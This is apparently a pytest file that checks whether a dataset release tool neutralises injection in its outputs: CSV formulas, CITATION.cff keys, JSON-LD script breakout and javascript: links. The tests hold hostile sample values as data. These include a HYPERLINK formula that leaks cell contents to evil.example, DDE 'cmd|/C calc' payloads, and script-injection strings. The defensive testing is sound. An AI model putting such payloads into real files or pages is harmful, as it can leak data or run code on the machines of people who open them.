"""Outputs are inert, end to end: no CSV cell a spreadsheet would run, no JSON-LD value that ends
its script element, no CITATION.cff value that adds keys, no ``javascript:`` link in Datasette's
metadata or on the site even when validation is skipped.

Before: a text cell ``=HYPERLINK(...)`` validated and shipped as is in dist/*.csv; a licence name
holding a line break added a ``doi:`` key to CITATION.cff (``license:`` was written unquoted);
``</script>`` in the title was written raw into schema-org.jsonld; a ``javascript:`` homepage or
licence path became Datasette's ``source_url`` and ``license_url``."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import yaml

from scripts.model.meta import package_meta
from scripts.model.package import load_package
from scripts.release.generated import write_generated
from scripts.release.sqlite import datasette_metadata
from scripts.site.build import render_site
from tests.faults.support import AZERBAIJAN, cli, state_cell, tables

NAME_ROW = 4  # states.csv: the name of DEU (Germany) is on spreadsheet row 4
LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
JS = "javascript:alert(document.domain)"
FAKE_DOI = "doi: 10.5281/zenodo.666"


def _descriptor(pkg: Path, change) -> None:
    path = pkg / "datapackage.json"
    data = json.loads(path.read_text(encoding="utf-8"))
    change(data)
    path.write_text(json.dumps(data, indent=2, ensure_ascii=False) + "\n", encoding="utf-8")


def _state_name(pkg: Path, value: str) -> None:
    path = pkg / "tables" / "states.csv"
    text = path.read_text(encoding="utf-8")
    assert text.splitlines()[NAME_ROW - 1].startswith("DEU,Germany,")
    quoted = '"' + value.replace('"', '""') + '"'
    path.write_text(text.replace("DEU,Germany,", f"DEU,{quoted},"), encoding="utf-8")


# --------------------------------------------------------------------------- CSV formulas

@pytest.mark.parametrize("value", [LEAK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"],
                         ids=["equals", "plus", "minus", "at"])
def test_a_text_cell_a_spreadsheet_would_run_is_refused_by_validate(pkg: Path, capsys, value: str) -> None:
    _state_name(pkg, value)
    code, out, err = cli(capsys, "validate", pkg, "--no-provenance", "--format", "json")
    assert (code, err) == (1, "")
    [problem] = json.loads(out)["problems"]
    assert (problem["file"], problem["row"], problem["field"], problem["value"], problem["rule"]) == (
        "tables/states.csv", NAME_ROW, "name", value, "no_formula_text")
    assert problem["message"] == f"name starts with {value[0]!r}, which a spreadsheet opening the CSV runs as a formula"


@pytest.mark.parametrize("value", ["\t=1+1", "\r=1+1"], ids=["tab", "carriage-return"])
def test_a_leading_tab_or_carriage_return_is_one_line_by_clean_text(pkg: Path, capsys, value: str) -> None:
    _state_name(pkg, value)
    code, out, _ = cli(capsys, "validate", pkg, "--no-provenance", "--format", "json")
    assert code == 1
    found = [(p["row"], p["field"], p["rule"]) for p in json.loads(out)["problems"]]
    assert found == [(NAME_ROW, "name", "clean_text")]


def test_a_formula_typed_as_text_in_the_workbook_is_refused_by_import(pkg: Path, exported: Path, tmp_path: Path,
                                                                     capsys) -> None:
    xml_text = LEAK.replace("&", "&amp;").replace('"', "&quot;")
    cell = f'<c r="B2" s="11" t="inlineStr"><is><t>{xml_text}</t></is></c>'
    workbook = state_cell(exported, tmp_path / "formula.xlsx", AZERBAIJAN, cell)
    before = tables(pkg)
    code, out, err = cli(capsys, "import", workbook, pkg, "--no-provenance", "--format", "json")
    assert (code, out) == (1, "")
    [problem] = json.loads(err)["problems"]
    assert (problem["row"], problem["field"], problem["value"], problem["rule"]) == (2, "name", LEAK, "no_formula_text")
    assert problem["message"].startswith("states!B2: name starts with '='")
    assert tables(pkg) == before


def test_the_release_refuses_a_formula_cell_and_writes_nothing(pkg: Path, tmp_path: Path, capsys) -> None:
    _state_name(pkg, LEAK)
    code, out, err = cli(capsys, "release", pkg, "--no-provenance", "--dist", tmp_path / "dist")
    assert (code, out) == (1, "")
    assert "row 4, name = " in err and "[no_formula_text]" in err
    assert not (tmp_path / "dist").exists()


# --------------------------------------------------------------------------- CITATION.cff

@pytest.mark.parametrize("hostile", [f"CC-BY-4.0\n{FAKE_DOI}", f"CC-BY-4.0\r\n{FAKE_DOI}", f"CC-BY-4.0\u2028{FAKE_DOI}",
                                     f"CC-BY-4.0\x85{FAKE_DOI}", f'CC-BY-4.0"\n{FAKE_DOI}'],
                         ids=["LF", "CRLF", "U+2028", "NEL", "quote-LF"])
def test_a_hostile_licence_name_stays_one_scalar_in_citation_cff(pkg: Path, capsys, hostile: str) -> None:
    _descriptor(pkg, lambda d: d["licenses"][0].update(name=hostile))
    code, _, err = cli(capsys, "docs", pkg)  # docs does not validate: the file itself must be safe
    assert code == 0, err
    cff = yaml.safe_load((pkg / "CITATION.cff").read_text(encoding="utf-8"))
    assert cff["license"] == hostile
    assert "doi" not in cff
    assert set(cff) == {"cff-version", "message", "type", "title", "version", "date-released", "license", "url",
                        "repository-code", "authors", "abstract", "keywords"}


# --------------------------------------------------------------------------- JSON-LD and the site

TITLE = "Central Asia </script><script>alert(1)</script> <!-- & more"


def test_a_hostile_title_cannot_end_the_json_ld_script_element(pkg: Path, tmp_path: Path, capsys) -> None:
    _descriptor(pkg, lambda d: d.update(title=TITLE))
    write_generated(pkg)
    dist = tmp_path / "dist"
    code, _, err = cli(capsys, "release", pkg, "--no-provenance", "--dist", dist)
    assert code == 0, err
    text = (dist / "schema-org.jsonld").read_text(encoding="utf-8")
    assert not {"<", ">", "&"} & set(text)
    assert "\\u003c/script\\u003e" in text
    assert json.loads(text)["name"] == TITLE  # the escapes change no value
    index = (dist / "site" / "index.html").read_text(encoding="utf-8")
    assert "</script><script>" not in index and "&lt;/script&gt;&lt;script&gt;alert(1)" in index


def _javascript_everywhere(data: dict[str, Any]) -> None:
    data["homepage"] = JS
    data["cac:download_base"] = JS + "//{version}/"
    data["licenses"][0]["path"] = JS
    data["contributors"][0]["path"] = JS
    data["sources"][0]["path"] = JS


def test_javascript_urls_never_become_links_even_without_validation(pkg: Path, capsys) -> None:
    _descriptor(pkg, _javascript_everywhere)
    code, out, _ = cli(capsys, "validate", pkg, "--no-provenance", "--format", "json")
    # a source's path made a javascript: address also disagrees with sources.csv (descriptor-sources)
    assert code == 1 and {p["rule"] for p in json.loads(out)["problems"]} == {"descriptor-url", "descriptor-sources"}
    package = load_package(pkg)  # built directly, as if validation were skipped
    metadata = datasette_metadata(package, package_meta(package))
    assert "javascript" not in json.dumps(metadata)
    assert not {"license_url", "source_url", "about_url"} & set(metadata)
    for name, payload in render_site(pkg).items():
        assert b"javascript:" not in payload, name
